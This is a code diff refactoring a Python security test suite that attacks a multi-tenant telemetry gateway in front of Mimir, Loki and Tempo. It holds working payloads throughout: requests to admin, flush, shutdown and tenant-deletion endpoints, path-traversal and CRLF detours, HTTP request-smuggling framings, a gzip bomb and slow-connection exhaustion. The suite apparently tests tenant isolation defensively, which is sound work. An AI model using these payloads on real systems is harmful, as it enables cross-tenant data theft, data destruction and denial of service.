@@ -5,290 +5,201 @@ from __future__ import annotations
 import gzip
 import socket
 from collections.abc import Callable, Iterable, Iterator
-from dataclasses import dataclass, replace
+from contextlib import ExitStack
+from dataclasses import replace
 
 from stackproof.backends import PROVABLE
 from stackproof.model import TENANT_HEADER, Backend, Signal
+from stackproof.otlp.protobuf import field
 from stackproof.waiting import until
 
-from .base import LOOKED_FOR, Attack, AttackRun, Expect
-from .wire import Raw, WireAnswer, WireRequest, http1, send
+from .base import ALL, LOOKED_FOR, Attack, AttackRun, Expect
+from .wire import WireAnswer, WireRequest, http1, send
 
-_ALL = tuple(Signal)
 _QUERIES = tuple(api for api in PROVABLE if api.id in LOOKED_FOR.values())
 
 
 # --- what must not be reachable at all ------------------------------------------------------------
 
 
-@dataclass(frozen=True, slots=True)
-class _Api:
-    """A group of endpoints of the backends that no tenant has any business with."""
+def _closed(
+    name: str,
+    does: str,
+    source: str,
+    requests: str,
+    body: bytes = b"",
+    passes: str = "",
+    *,
+    destroys: bool = False,
+) -> Attack:
+    """Ask for endpoints of the backends that no tenant has any business with.
 
-    name: str
-    does: str
-    source: str
-    requests: tuple[str, ...]
-    """`METHOD PATH`; a trusting gateway passes /tempo/… to Tempo, /loki/… to Loki, the rest to
-    Mimir."""
-    body: bytes = b""
-    destroys: bool = False
-    passes: str = ""
+    `requests` are `METHOD PATH PATH … METHOD PATH …`; a trusting gateway passes /tempo/… to Tempo,
+    /loki/… to Loki, the rest to Mimir.
+    """
+
+    def sends(attack_run: AttackRun) -> Iterator[WireRequest]:
+        for lines in ([], [f"{TENANT_HEADER}: {attack_run.attacker}"]):
+            method = ""
+            for word in requests.split():
+                if not word.startswith("/"):
+                    method = word
+                    continue
+                sent = body if method in {"POST", "PUT"} else None
+                yield http1(attack_run.gateway, method, word, [attack_run.own, *lines], sent)
+
+    return Attack(
+        name=f"reaches-{name}",
+        does=f"{does}, with its own password and with the victim's name in the header",
+        source=source,
+        destroys=destroys,
+        ineffective_because=passes,
+        sends=sends,
+    )
 
 
 _RULES = b"name: g\nrules: [{record: a, expr: vector(1)}]\nsource_tenants: [soev]\n"
 _CLOSED = (
-    _Api(
+    _closed(
         "configuration",
         "reads configurations",
         "CVE-2026-28377: Tempo prints a storage key in /status/config",
-        (
-            "GET /config",
-            "GET /loki/config",
-            "GET /tempo/status/config",
-            "GET /tempo/status",
-            "GET /runtime_config",
-            "GET /config/tenant/v1/limits",
-            "GET /api/v1/user_limits",
-        ),
+        "GET /config /loki/config /tempo/status/config /tempo/status /runtime_config "
+        "/config/tenant/v1/limits /api/v1/user_limits",
     ),
-    _Api(
+    _closed(
         "metrics-of-the-backends",
         "reads the backends' own metrics, which name every tenant",
         "/metrics asks nobody who it is (observed, all three)",
-        ("GET /metrics", "GET /loki/metrics", "GET /tempo/metrics"),
+        "GET /metrics /loki/metrics /tempo/metrics",
     ),
-    _Api(
+    _closed(
         "other-tenants-limits",
         "reads another tenant's overrides",
         "Tempo's /status/overrides/TENANT asks nobody who it is (observed)",
-        ("GET /tempo/status/overrides", "GET /tempo/status/overrides/soev"),
+        "GET /tempo/status/overrides /tempo/status/overrides/soev",
     ),
-    _Api(
+    _closed(
         "lists-of-tenants",
         "lists tenants and their figures",
         "Mimir's admin pages ask nobody who it is (observed)",
-        (
-            "GET /ingester/tenants",
-            "GET /ingester/tsdb/soev",
-            "GET /distributor/all_user_stats",
-            "GET /compactor/tenants",
-            "GET /store-gateway/tenants",
-            "GET /store-gateway/tenant/soev/blocks",
-            "GET /ruler/tenants",
-            "GET /api/v1/user_stats",
-        ),
+        "GET /ingester/tenants /ingester/tsdb/soev /distributor/all_user_stats "
+        "/compactor/tenants /store-gateway/tenants /store-gateway/tenant/soev/blocks "
+        "/ruler/tenants /api/v1/user_stats",
     ),
-    _Api(
+    _closed(
         "rings",
         "reads the rings, and forgets a member",
         "ring pages have a form that removes an instance",
-        (
-            "GET /ingester/ring",
-            "POST /ingester/ring",
-            "GET /distributor/ring",
-            "GET /compactor/ring",
-            "GET /ring",
-            "GET /loki/ring",
-            "GET /tempo/ingester/ring",
-            "GET /memberlist",
-            "GET /services",
-        ),
+        "GET /ingester/ring POST /ingester/ring GET /distributor/ring /compactor/ring /ring "
+        "/loki/ring /tempo/ingester/ring /memberlist /services",
     ),
-    _Api(
+    _closed(
         "flush",
         "flushes what is held in memory",
         "POST /flush answers 204 without a header (observed, Loki)",
-        (
-            "POST /flush",
-            "GET /ingester/flush",
-            "POST /ingester/flush",
-            "POST /loki/flush",
-            "POST /tempo/flush",
-        ),
+        "POST /flush GET /ingester/flush POST /ingester/flush /loki/flush /tempo/flush",
         destroys=True,
     ),
-    _Api(
+    _closed(
         "shutdown",
         "shuts ingesters down",
         "POST /ingester/shutdown asks nobody who it is",
-        (
-            "POST /ingester/shutdown",
-            "GET /ingester/prepare-shutdown",
-            "POST /ingester/prepare-shutdown",
-            "POST /loki/ingester/shutdown",
-            "POST /tempo/shutdown",
-            "GET /tempo/shutdown",
-        ),
+        "POST /ingester/shutdown GET /ingester/prepare-shutdown "
+        "POST /ingester/prepare-shutdown /loki/ingester/shutdown /tempo/shutdown "
+        "GET /tempo/shutdown",
         destroys=True,
     ),
-    _Api(
+    _closed(
         "deletion-of-a-tenant",
         "deletes a tenant's metrics",
         "Mimir's POST /compactor/delete_tenant takes the tenant from the header",
-        ("POST /compactor/delete_tenant", "GET /compactor/delete_tenant_status"),
+        "POST /compactor/delete_tenant GET /compactor/delete_tenant_status",
         destroys=True,
     ),
-    _Api(
+    _closed(
         "deletion-of-logs",
         "deletes log lines",
         "Loki's delete API takes the tenant from the header",
-        (
-            "POST /loki/api/v1/delete?query=%7Bservice_name%3D%22open-webui%22%7D&start=1700000000",
-            "PUT /loki/api/v1/delete?query=%7Bservice_name%3D%22open-webui%22%7D&start=1700000000",
-            "GET /loki/api/v1/delete",
-            "GET /loki/api/v1/cache/generation_numbers",
-            "POST /prometheus/api/v1/admin/tsdb/delete_series?match[]=up",
-        ),
+        "POST /loki/api/v1/delete?query=%7Bservice_name%3D%22open-webui%22%7D&start=1700000000 "
+        "PUT /loki/api/v1/delete?query=%7Bservice_name%3D%22open-webui%22%7D&start=1700000000 "
+        "GET /loki/api/v1/delete /loki/api/v1/cache/generation_numbers "
+        "POST /prometheus/api/v1/admin/tsdb/delete_series?match[]=up",
         destroys=True,
     ),
-    _Api(
+    _closed(
         "rules-of-mimir",
         "reads every tenant's rules, and sets one that reads the victim",
         "GET /ruler/rule_groups dumps all rules without a header (observed)",
-        (
-            "GET /ruler/rule_groups",
-            "GET /ruler/ring",
-            "GET /prometheus/config/v1/rules",
-            "POST /prometheus/config/v1/rules/attack",
-            "DELETE /prometheus/config/v1/rules/attack",
-            "GET /prometheus/api/v1/rules",
-            "GET /prometheus/api/v1/alerts",
-            "GET /api/v1/alerts",
-            "POST /api/v1/alerts",
-        ),
+        "GET /ruler/rule_groups /ruler/ring /prometheus/config/v1/rules "
+        "POST /prometheus/config/v1/rules/attack DELETE /prometheus/config/v1/rules/attack "
+        "GET /prometheus/api/v1/rules /prometheus/api/v1/alerts /api/v1/alerts "
+        "POST /api/v1/alerts",
         _RULES,
     ),
-    _Api(
+    _closed(
         "rules-of-loki",
         "reads and sets rules of logs, with a traversal",
         "CVE-2026-21726: double-encoded traversal in the rules' namespace",
-        (
-            "GET /loki/api/v1/rules",
-            "POST /loki/api/v1/rules/attack",
-            "GET /loki/api/v1/rules/%252e%252e%252fsoev",
-            "GET /loki/api/v1/rules/%2e%2e%2fsoev/g",
-            "GET /prometheus/api/v1/rules?type=alert",
-            "GET /api/prom/rules",
-        ),
+        "GET /loki/api/v1/rules POST /loki/api/v1/rules/attack "
+        "GET /loki/api/v1/rules/%252e%252e%252fsoev /loki/api/v1/rules/%2e%2e%2fsoev/g "
+        "/prometheus/api/v1/rules?type=alert /api/prom/rules",
         _RULES,
     ),
-    _Api(
+    _closed(
         "cardinality",
         "reads label and series counts",
         "the cardinality API is expensive, and off",
-        (
-            "GET /prometheus/api/v1/cardinality/label_names",
-            "GET /prometheus/api/v1/cardinality/label_values?label_names[]=job",
-            "GET /prometheus/api/v1/cardinality/active_series?selector=%7Bjob!%3D%22%22%7D",
-            "GET /loki/api/v1/patterns?query=%7Bservice_name%3D%22open-webui%22%7D",
-            "GET /tempo/api/metrics/summary?q=%7B%7D&groupBy=name",
-        ),
+        "GET /prometheus/api/v1/cardinality/label_names "
+        "/prometheus/api/v1/cardinality/label_values?label_names[]=job "
+        "/prometheus/api/v1/cardinality/active_series?selector=%7Bjob!%3D%22%22%7D "
+        "/loki/api/v1/patterns?query=%7Bservice_name%3D%22open-webui%22%7D "
+        "/tempo/api/metrics/summary?q=%7B%7D&groupBy=name",
     ),
-    _Api(
+    _closed(
         "formatting",
         "has expressions formatted",
         "1+1+… of 8 KB keeps a core of Mimir 3.0.5 busy for hours, asker or not (observed)",
-        (
-            "GET /prometheus/api/v1/format_query?query=1%2B1",
-            "POST /prometheus/api/v1/format_query?query=1%2B1",
-            "GET /loki/api/v1/format_query?query=%7Ba%3D%22b%22%7D",
-        ),
+        "GET /prometheus/api/v1/format_query?query=1%2B1 "
+        "POST /prometheus/api/v1/format_query?query=1%2B1 "
+        "GET /loki/api/v1/format_query?query=%7Ba%3D%22b%22%7D",
     ),
-    _Api(
+    _closed(
         "old-push-paths",
         "writes and tails by the paths of older versions",
         "Loki's /api/prom/push, Cortex' /api/prom/push, Influx, Zipkin, Jaeger",
-        (
-            "POST /api/prom/push",
-            "GET /api/prom/tail?query=%7Bservice_name%3D%22open-webui%22%7D",
-            "GET /api/prom/query?query=%7Bservice_name%3D%22open-webui%22%7D",
-            "POST /api/v1/push/influx/write",
-            "POST /v1/traces",
-            "POST /v1/logs",
-            "POST /api/v2/spans",
-            "POST /api/traces",
-            "POST /loki/v1/logs",
-        ),
+        "POST /api/prom/push GET /api/prom/tail?query=%7Bservice_name%3D%22open-webui%22%7D "
+        "/api/prom/query?query=%7Bservice_name%3D%22open-webui%22%7D "
+        "POST /api/v1/push/influx/write /v1/traces /v1/logs /api/v2/spans /api/traces "
+        "/loki/v1/logs",
         passes="no backend serves these paths any more",
     ),
-    _Api(
+    _closed(
         "profiles",
         "reads the backends' profiles",
         "pprof shows memory, with everybody's data in it",
-        (
-            "GET /debug/pprof/",
-            "GET /debug/pprof/cmdline",
-            "GET /debug/fgprof",
-            "GET /loki/debug/pprof/cmdline",
-            "GET /tempo/debug/pprof/cmdline",
-        ),
+        "GET /debug/pprof/ /debug/pprof/cmdline /debug/fgprof /loki/debug/pprof/cmdline "
+        "/tempo/debug/pprof/cmdline",
     ),
-    _Api(
+    _closed(
         "log-levels-and-overrides",
         "sets log levels and limits",
         "Tempo's user-configurable overrides, and Loki's log_level",
-        (
-            "POST /loki/log_level?log_level=debug",
-            "GET /tempo/api/overrides",
-            "POST /tempo/api/overrides",
-            "DELETE /tempo/api/overrides",
-            "POST /partition-ring",
-        ),
+        "POST /loki/log_level?log_level=debug GET /tempo/api/overrides "
+        "POST /tempo/api/overrides DELETE /tempo/api/overrides POST /partition-ring",
     ),
-    _Api(
+    _closed(
         "gateways-own-api",
         "looks for the gateway's own administration",
         "Caddy's admin API reloads the configuration",
-        (
-            "GET /config/",
-            "POST /load",
-            "GET /reverse_proxy/upstreams",
-            "GET /id/",
-            "POST /stop",
-            "GET /Caddyfile",
-            "GET /etc/gateway-users/soev",
-        ),
+        "GET /config/ POST /load GET /reverse_proxy/upstreams /id/ POST /stop GET /Caddyfile "
+        "/etc/gateway-users/soev",
         passes="it listens nowhere in any variant (admin off)",
     ),
 )
 
 
-def _requests(api: _Api, attack_run: AttackRun, *lines: str) -> Iterator[Raw]:
-    for request in api.requests:
-        method, path = request.split(" ", 1)
-        body = api.body if method in {"POST", "PUT"} else None
-        yield http1(attack_run.gateway, method, path, [attack_run.own, *lines], body)
-
-
-def _closed(api: _Api) -> Iterator[Attack]:
-    yield Attack(
-        name=f"reaches-{api.name}",
-        does=f"{api.does}, with its own password and with the victim's name in the header",
-        source=api.source,
-        destroys=api.destroys,
-        ineffective_because=api.passes,
-        sends=lambda attack_run: (
-            wire_request
-            for lines in ((), (f"{TENANT_HEADER}: {attack_run.attacker}",))
-            for wire_request in _requests(api, attack_run, *lines)
-        ),
-    )
-
-
 # --- detours --------------------------------------------------------------------------------------
-
-
-def _path(wire_request: Raw) -> tuple[bytes, bytes]:
-    """Return path and the rest of the target of a request."""
-    target = wire_request.data.split(b" ")[1]
-    path, mark, query = target.partition(b"?")
-    return path, mark + query
-
-
-def _with_path(wire_request: Raw, path: bytes) -> Raw:
-    old, _ = _path(wire_request)
-    return replace(wire_request, data=wire_request.data.replace(old, path, 1))
 
 
 def _every_path(change: Callable[[bytes], bytes]) -> Callable[[AttackRun], Iterator[WireRequest]]:
@@ -296,7 +207,8 @@ def _every_path(change: Callable[[bytes], bytes]) -> Callable[[AttackRun], Itera
 
     def sends(attack_run: AttackRun) -> Iterator[WireRequest]:
         for wire_request in (*attack_run.reads(attack_run.own), *attack_run.writes(attack_run.own)):
-            yield _with_path(wire_request, change(_path(wire_request)[0]))
+            path = wire_request.data.split(b" ")[1].partition(b"?")[0]
+            yield replace(wire_request, data=wire_request.data.replace(path, change(path), 1))
 
     return sends
 
@@ -306,73 +218,63 @@ def _last_slash(path: bytes, new: bytes) -> bytes:
     return head + new + tail
 
 
-@dataclass(frozen=True, slots=True)
-class _Detour:
-    name: str
-    does: str
-    change: Callable[[bytes], bytes]
-    expect: Expect = Expect.REFUSED
-
-
 _NO_PATH = "no backend serves the changed path, or it is but another spelling of an allowed one"
 #: What a gateway that matches prefixes and cleans paths lets through to the same API.
-_CLEANED = (
-    "double-slash",
-    "inner-double-slash",
-    "dot",
-    "dots",
-    "encoded-slash",
-    "encoded-letter",
-    "trailing-dots",
-)
+_CLEANED = {
+    *("double-slash", "inner-double-slash", "dot", "dots"),
+    *("encoded-slash", "encoded-letter", "trailing-dots"),
+}
+
+
+def _detour(
+    name: str, does: str, change: Callable[[bytes], bytes], expect: Expect = Expect.REFUSED
+) -> Attack:
+    return Attack(
+        name=f"detour-{name}",
+        does=f"asks and exports everything by a detour: {does}",
+        source="path confusion between a proxy and what is behind it",
+        expect=expect,
+        sends=_every_path(change),
+        writes=ALL,
+        ineffective_because="" if name in _CLEANED else _NO_PATH,
+    )
+
+
 _DETOURS = (
-    _Detour("double-slash", "//prometheus/…", lambda path: b"/" + path),
-    _Detour("inner-double-slash", "…/api//v1/…", lambda path: _last_slash(path, b"//")),
-    _Detour("dot", "/./prometheus/…", lambda path: b"/." + path),
-    _Detour("dots", "/x/../prometheus/…", lambda path: b"/x/.." + path),
-    _Detour("encoded-dots", "/x/%2e%2e/prometheus/…", lambda path: b"/x/%2e%2e" + path),
-    _Detour("twice-encoded", "/x/%252e%252e/…", lambda path: b"/x/%252e%252e" + path),
-    _Detour("encoded-slash", "…/v1%2fquery", lambda path: _last_slash(path, b"%2f")),
-    _Detour("encoded-letter", "/%70rometheus/…", lambda path: b"/%%%02x" % path[1] + path[2:]),
-    _Detour("backslash", "/prometheus\\api\\…", lambda path: b"/" + path[1:].replace(b"/", b"\\")),
-    _Detour("semicolon", "/prometheus/…/query;x", lambda path: path + b";x"),
-    _Detour("encoded-semicolon", "…/query%3bx", lambda path: path + b"%3bx"),
-    _Detour("trailing-slash", "…/query/", lambda path: path + b"/"),
-    _Detour("trailing-dots", "…/query/x/..", lambda path: path + b"/x/.."),
-    _Detour("capitals", "/PROMETHEUS/…", lambda path: path.upper()),
-    _Detour("null", "…/query%00", lambda path: path + b"%00"),
-    _Detour("line-break", "…/query%0d%0aX-Scope-OrgID:%20soev", lambda path: path + b"%0d%0aX:y"),
-    _Detour("encoded-question-mark", "…/query%3f", lambda path: path + b"%3f"),
-    _Detour("fragment", "…/query#x", lambda path: path + b"#x", Expect.HARMLESS),
-    _Detour("prefix", "/x/prometheus/…", lambda path: b"/x" + path),
-    _Detour("suffix", "…/queryx", lambda path: path + b"x"),
-    _Detour(
+    _detour("double-slash", "//prometheus/…", lambda path: b"/" + path),
+    _detour("inner-double-slash", "…/api//v1/…", lambda path: _last_slash(path, b"//")),
+    _detour("dot", "/./prometheus/…", lambda path: b"/." + path),
+    _detour("dots", "/x/../prometheus/…", lambda path: b"/x/.." + path),
+    _detour("encoded-dots", "/x/%2e%2e/prometheus/…", lambda path: b"/x/%2e%2e" + path),
+    _detour("twice-encoded", "/x/%252e%252e/…", lambda path: b"/x/%252e%252e" + path),
+    _detour("encoded-slash", "…/v1%2fquery", lambda path: _last_slash(path, b"%2f")),
+    _detour("encoded-letter", "/%70rometheus/…", lambda path: b"/%%%02x" % path[1] + path[2:]),
+    _detour("backslash", "/prometheus\\api\\…", lambda path: b"/" + path[1:].replace(b"/", b"\\")),
+    _detour("semicolon", "/prometheus/…/query;x", lambda path: path + b";x"),
+    _detour("encoded-semicolon", "…/query%3bx", lambda path: path + b"%3bx"),
+    _detour("trailing-slash", "…/query/", lambda path: path + b"/"),
+    _detour("trailing-dots", "…/query/x/..", lambda path: path + b"/x/.."),
+    _detour("capitals", "/PROMETHEUS/…", lambda path: path.upper()),
+    _detour("null", "…/query%00", lambda path: path + b"%00"),
+    _detour("line-break", "…/query%0d%0aX-Scope-OrgID:%20soev", lambda path: path + b"%0d%0aX:y"),
+    _detour("encoded-question-mark", "…/query%3f", lambda path: path + b"%3f"),
+    _detour("fragment", "…/query#x", lambda path: path + b"#x", Expect.HARMLESS),
+    _detour("prefix", "/x/prometheus/…", lambda path: b"/x" + path),
+    _detour("suffix", "…/queryx", lambda path: path + b"x"),
+    _detour(
         "absolute-uri",
         "http://gateway/prometheus/…",
         lambda path: b"http://gateway" + path,
         Expect.HARMLESS,
     ),
-    _Detour(
+    _detour(
         "absolute-uri-of-a-backend",
         "http://mimir:9009/prometheus/… as to a proxy",
         lambda path: b"http://mimir:9009" + path,
         Expect.HARMLESS,
     ),
-    _Detour("no-leading-slash", "prometheus/…", lambda path: path[1:]),
+    _detour("no-leading-slash", "prometheus/…", lambda path: path[1:]),
 )
-
-
-def _detours() -> Iterator[Attack]:
-    for detour in _DETOURS:
-        yield Attack(
-            name=f"detour-{detour.name}",
-            does=f"asks and exports everything by a detour: {detour.does}",
-            source="path confusion between a proxy and what is behind it",
-            expect=detour.expect,
-            sends=_every_path(detour.change),
-            writes=_ALL,
-            ineffective_because="" if detour.name in _CLEANED else _NO_PATH,
-        )
 
 
 #: From a path that is allowed to one that is not.
@@ -453,64 +355,51 @@ def _rewritten(attack_run: AttackRun) -> Iterator[WireRequest]:
         yield from attack_run.few(attack_run.own, *(line.format(path=path) for line in _REWRITES))
 
 
-def _overridden(attack_run: AttackRun) -> Iterator[WireRequest]:
-    yield from attack_run.writes(attack_run.own, *_OVERRIDES)
-
-
 # --- bodies and framing ---------------------------------------------------------------------------
 
-_MEBIBYTE = 1 << 20
+_END = b"0\r\n\r\n"
 
 
 def _padded(attack_run: AttackRun, signal: Signal, size: int) -> bytes:
     """The forged telemetry, then a field that no OTLP message has, to the wanted size."""
     payload = attack_run.payload(signal)
-    # Field 2047, bytes: protobuf keeps what it does not know.
-    head = b"\xfa\x7f"
-    rest = size - len(payload) - len(head) - 4
-    length = bytes(
-        (rest & 0x7F | 0x80, rest >> 7 & 0x7F | 0x80, rest >> 14 & 0x7F | 0x80, rest >> 21)
-    )
-    return payload + head + length + bytes(rest)
+    # Protobuf keeps what it does not know; 6 bytes are the field's number and length.
+    return payload + field(2047, bytes(size - len(payload) - 6))
 
 
-def _oversize(attack_run: AttackRun) -> Iterator[WireRequest]:
-    for signal in Signal:
-        body = _padded(attack_run, signal, 17 * _MEBIBYTE)
-        yield attack_run.write(signal, attack_run.own, body=body)
-
-
-def _oversize_chunked(attack_run: AttackRun) -> Iterator[WireRequest]:
-    for signal in Signal:
-        body = _padded(attack_run, signal, 17 * _MEBIBYTE)
-        chunks = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
-        yield attack_run.write(signal, attack_run.own, "Transfer-Encoding: chunked", body=chunks)
-
-
-def _bomb(attack_run: AttackRun) -> Iterator[WireRequest]:
-    for signal in Signal:
-        body = gzip.compress(_padded(attack_run, signal, 64 * _MEBIBYTE), 1)
-        yield attack_run.write(signal, attack_run.own, "Content-Encoding: gzip", body=body)
-
-
-def _smuggled(attack_run: AttackRun) -> bytes:
-    """Behind the first request: a question as a backend would answer it, naming the victim."""
-    wire_requests = [
-        attack_run.read(api, f"{TENANT_HEADER}: {attack_run.victim}") for api in _QUERIES
-    ]
-    return b"".join(wire_request.data for wire_request in wire_requests)
-
-
-def _framed(
-    *lines: str, body: Callable[[bytes], bytes]
+def _oversize(
+    mebibytes: int, *lines: str, encode: Callable[[bytes], bytes] = bytes
 ) -> Callable[[AttackRun], Iterator[WireRequest]]:
-    """Export with contradicting framing, so that a part of the body is another request to some."""
+    def sends(attack_run: AttackRun) -> Iterator[WireRequest]:
+        for signal in Signal:
+            body = encode(_padded(attack_run, signal, mebibytes << 20))
+            yield attack_run.write(signal, attack_run.own, *lines, body=body)
+
+    return sends
+
+
+def _zipped(body: bytes) -> bytes:
+    return gzip.compress(body, 1)
+
+
+def _in_chunks(body: bytes) -> bytes:
+    return b"%x\r\n%s\r\n%s" % (len(body), body, _END)
+
+
+def _smuggled(
+    name: str, does: str, *lines: str, body: Callable[[bytes], bytes] = bytes, passes: str = ""
+) -> Attack:
+    """Export with contradicting framing, so that a part of the body is another request to some.
+
+    That is a question as a backend would answer it, naming the victim. `{length}` in a line is that
+    of the body, `{part}` a shorter one. `passes`: why a gateway that believes headers answers one.
+    """
 
     def sends(attack_run: AttackRun) -> Iterator[WireRequest]:
-        smuggled = _smuggled(attack_run)
+        named = f"{TENANT_HEADER}: {attack_run.victim}"
+        data = body(b"".join(attack_run.read(api, named).data for api in _QUERIES))
+        filled = [line.format(length=len(data), part=4) for line in lines]
         for path in ("/otlp/v1/metrics", "/otlp/v1/logs", "/otlp/v1/traces"):
-            data = body(smuggled)
-            filled = [line.format(length=len(data), part=4) for line in lines]
             yield http1(
                 attack_run.gateway,
                 "POST",
@@ -520,118 +409,95 @@ def _framed(
                 linger_s=0.3,
             )
 
-    return sends
+    return Attack(
+        name=f"smuggle-{name}",
+        does=f"hides a question about the victim behind {does}",
+        source="RFC 9112 §11.2: request smuggling",
+        expect=Expect.HARMLESS,
+        sends=sends,
+        ineffective_because=passes,
+    )
 
 
-_END = b"0\r\n\r\n"
-_SMUGGLING: tuple[tuple[str, str, Callable[[AttackRun], Iterator[WireRequest]]], ...] = (
-    (
+_FRAMES = "Go's parser takes it for one request, or refuses it"
+_CHUNKED = "Transfer-Encoding: chunked"
+_SMUGGLING = (
+    _smuggled(
         "length-and-chunks",
         "Content-Length and Transfer-Encoding: chunked (CL.TE)",
-        _framed(
-            "Content-Length: {length}",
-            "Transfer-Encoding: chunked",
-            body=lambda smuggled: _END + smuggled,
-        ),
+        "Content-Length: {length}",
+        _CHUNKED,
+        body=lambda smuggled: _END + smuggled,
     ),
-    (
+    _smuggled(
         "chunks-and-short-length",
         "Transfer-Encoding: chunked and a short Content-Length (TE.CL)",
-        _framed(
-            "Transfer-Encoding: chunked",
-            "Content-Length: {part}",
-            body=lambda smuggled: b"%x\r\n%s\r\n" % (len(smuggled), smuggled) + _END,
-        ),
+        _CHUNKED,
+        "Content-Length: {part}",
+        body=_in_chunks,
+        passes=_FRAMES,
     ),
-    (
+    _smuggled(
         "strange-encoding",
         "a Transfer-Encoding that is not quite chunked (TE.TE)",
-        _framed(
-            "Transfer-Encoding: xchunked",
-            "Transfer-Encoding:\tchunked",
-            "Content-Length: {part}",
-            body=lambda smuggled: _END + smuggled,
-        ),
+        "Transfer-Encoding: xchunked",
+        "Transfer-Encoding:\tchunked",
+        "Content-Length: {part}",
+        body=lambda smuggled: _END + smuggled,
+        passes=_FRAMES,
     ),
-    (
+    _smuggled(
         "two-lengths",
         "two different Content-Lengths (CL.CL)",
-        _framed(
-            "Content-Length: 0",
-            "Content-Length: {length}",
-            body=lambda smuggled: smuggled,
-        ),
+        "Content-Length: 0",
+        "Content-Length: {length}",
+        passes=_FRAMES,
     ),
-    (
+    _smuggled(
         "signed-length",
         "a Content-Length with a sign",
-        _framed("Content-Length: +{length}", body=lambda smuggled: smuggled),
+        "Content-Length: +{length}",
+        passes=_FRAMES,
     ),
-    (
+    _smuggled(
         "zero-length",
         "a Content-Length of 0 and a second request behind it (no trick: it is on its own)",
-        _framed("Content-Length: 0", body=lambda smuggled: smuggled),
+        "Content-Length: 0",
     ),
-    (
+    _smuggled(
         "chunk-extension",
         "a chunk whose size is followed by an extension with a line feed alone",
-        _framed(
-            "Transfer-Encoding: chunked",
-            body=lambda smuggled: b"1;x=\n" + b"a\r\n" + _END + smuggled,
-        ),
+        _CHUNKED,
+        body=lambda smuggled: b"1;x=\n" + b"a\r\n" + _END + smuggled,
+        passes=_FRAMES,
     ),
-    (
+    _smuggled(
         "long-chunk-size",
         "a chunk size of more than 64 bits",
-        _framed(
-            "Transfer-Encoding: chunked",
-            body=lambda smuggled: b"1" + b"0" * 16 + b"\r\n" + _END + smuggled,
-        ),
+        _CHUNKED,
+        body=lambda smuggled: b"1" + b"0" * 16 + b"\r\n" + _END + smuggled,
+        passes=_FRAMES,
     ),
-    (
+    _smuggled(
         "expectation",
         "Expect: 100-continue, and the body at once",
-        _framed(
-            "Expect: 100-continue",
-            "Content-Length: {length}",
-            body=lambda smuggled: smuggled,
-        ),
+        "Expect: 100-continue",
+        "Content-Length: {length}",
+        passes=_FRAMES,
     ),
 )
 
 
-#: Those in which every server sees two requests: a gateway that believes headers answers both.
-_SEEN_AS_TWO = ("length-and-chunks", "zero-length")
-_FRAMES = "Go's parser takes it for one request, or refuses it"
-
-
-def _smuggling() -> Iterator[Attack]:
-    for name, does, sends in _SMUGGLING:
-        yield Attack(
-            name=f"smuggle-{name}",
-            does=f"hides a question about the victim behind {does}",
-            source="RFC 9112 §11.2: request smuggling",
-            expect=Expect.HARMLESS,
-            sends=sends,
-            ineffective_because="" if name in _SEEN_AS_TWO else _FRAMES,
-        )
-
-
 def _slow(attack_run: AttackRun) -> Iterable[str]:
     """With 200 half requests open, somebody else is still answered."""
-    held = [socket.create_connection(attack_run.gateway) for _ in range(200)]
-    try:
-        for connection in held:
-            connection.sendall(
-                b"POST /otlp/v1/logs HTTP/1.1\r\nHost: x\r\nContent-Length: 9999\r\n"
-            )
+    half = b"POST /otlp/v1/logs HTTP/1.1\r\nHost: x\r\nContent-Length: 9999\r\n"
+    with ExitStack() as held:
+        for _ in range(200):
+            held.enter_context(socket.create_connection(attack_run.gateway)).sendall(half)
         for wire_request in attack_run.few(attack_run.own):
             answer = _answered(wire_request)
             if not _is_answer(answer):
                 yield f"others are not answered within {_ANSWERED_S:.0f} s: {answer.describe()}"
-    finally:
-        for connection in held:
-            connection.close()
 
 
 #: A busy machine is slow as well; a server whose connections are all taken never answers. [s]
@@ -648,8 +514,8 @@ def _is_answer(answer: WireAnswer) -> bool:
 
 
 ROUTES: tuple[Attack, ...] = (
-    *(attack for api in _CLOSED for attack in _closed(api)),
-    *_detours(),
+    *_CLOSED,
+    *_DETOURS,
     Attack(
         name="climbs-from-allowed-paths",
         does="goes from an allowed path to another by dots, encoded or not",
@@ -668,7 +534,7 @@ ROUTES: tuple[Attack, ...] = (
         does="exports with methods that no export needs",
         source="RFC 9110 §9",
         sends=_wrong_write_methods,
-        writes=_ALL,
+        writes=ALL,
         ineffective_because="the backends refuse these methods themselves",
     ),
     Attack(
@@ -676,8 +542,8 @@ ROUTES: tuple[Attack, ...] = (
         does="exports with headers that make DELETE of POST",
         source="X-HTTP-Method-Override and its kin",
         expect=Expect.NEUTRALISED,
-        sends=_overridden,
-        writes=_ALL,
+        sends=lambda attack_run: attack_run.writes(attack_run.own, *_OVERRIDES),
+        writes=ALL,
         ineffective_because="no backend knows these headers",
     ),
     Attack(
@@ -692,26 +558,26 @@ ROUTES: tuple[Attack, ...] = (
         name="oversize-body",
         does="exports 17 MiB with each signal",
         source="what a gateway does not bound, a backend buffers",
-        sends=_oversize,
-        writes=_ALL,
+        sends=_oversize(17),
+        writes=ALL,
     ),
     Attack(
         name="oversize-body-in-chunks",
         does="exports 17 MiB with each signal, without saying so beforehand",
         source="a limit that looks at Content-Length only",
-        sends=_oversize_chunked,
-        writes=_ALL,
+        sends=_oversize(17, "Transfer-Encoding: chunked", encode=_in_chunks),
+        writes=ALL,
     ),
     Attack(
         name="compressed-bomb",
         does="exports 64 MiB, compressed to a few hundred KiB",
         source="a limit on the compressed size only",
         expect=Expect.HARMLESS,
-        sends=_bomb,
-        writes=_ALL,
+        sends=_oversize(64, "Content-Encoding: gzip", encode=_zipped),
+        writes=ALL,
         ineffective_because="the backends bound what they decompress",
     ),
-    *_smuggling(),
+    *_SMUGGLING,
     Attack(
         name="half-requests",
         does="holds 200 connections with half a request each",
